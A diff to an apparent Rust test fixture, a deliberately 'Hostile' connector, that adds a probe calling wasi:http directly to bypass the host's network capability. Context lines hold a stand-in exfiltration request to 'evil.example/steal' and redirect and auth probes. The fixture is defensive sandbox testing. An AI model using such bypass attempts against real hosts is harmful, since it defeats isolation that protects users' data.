@@ -97,6 +97,7 @@ impl Connector for Hostile {
                 Ok(_) => "socket: connected".into(),
                 Err(e) => format!("denied: {e}"),
             },
+            "wasi-http" => wasi_http(),
             "undeclared" => send(raw::Method::Get, "https://evil.example/steal", vec![]),
             "redirect" => send(raw::Method::Get, &format!("{origin}/redirect-out"), vec![]),
             "set-auth" => send(
@@ -132,6 +133,26 @@ fn field(key: &str, secret: bool) -> ConfigField {
         secret,
         allowed_values: vec![],
         default_value: None,
+    }
+}
+
+/// Tries `wasi:http/outgoing-handler` directly, around the host's capability.
+fn wasi_http() -> String {
+    use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
+    let req = OutgoingRequest::new(Fields::new());
+    let _ = req.set_scheme(Some(&Scheme::Https));
+    let _ = req.set_authority(Some("example.com"));
+    let _ = req.set_path_with_query(Some("/"));
+    match wasip2::http::outgoing_handler::handle(req, None) {
+        Err(e) => format!("denied: {e:?}"),
+        Ok(fut) => {
+            fut.subscribe().block();
+            match fut.get() {
+                Some(Ok(Ok(resp))) => format!("wasi-http: got status {}", resp.status()),
+                Some(Ok(Err(e))) => format!("denied: {e:?}"),
+                other => format!("denied: {other:?}"),
+            }
+        }
     }
 }
 
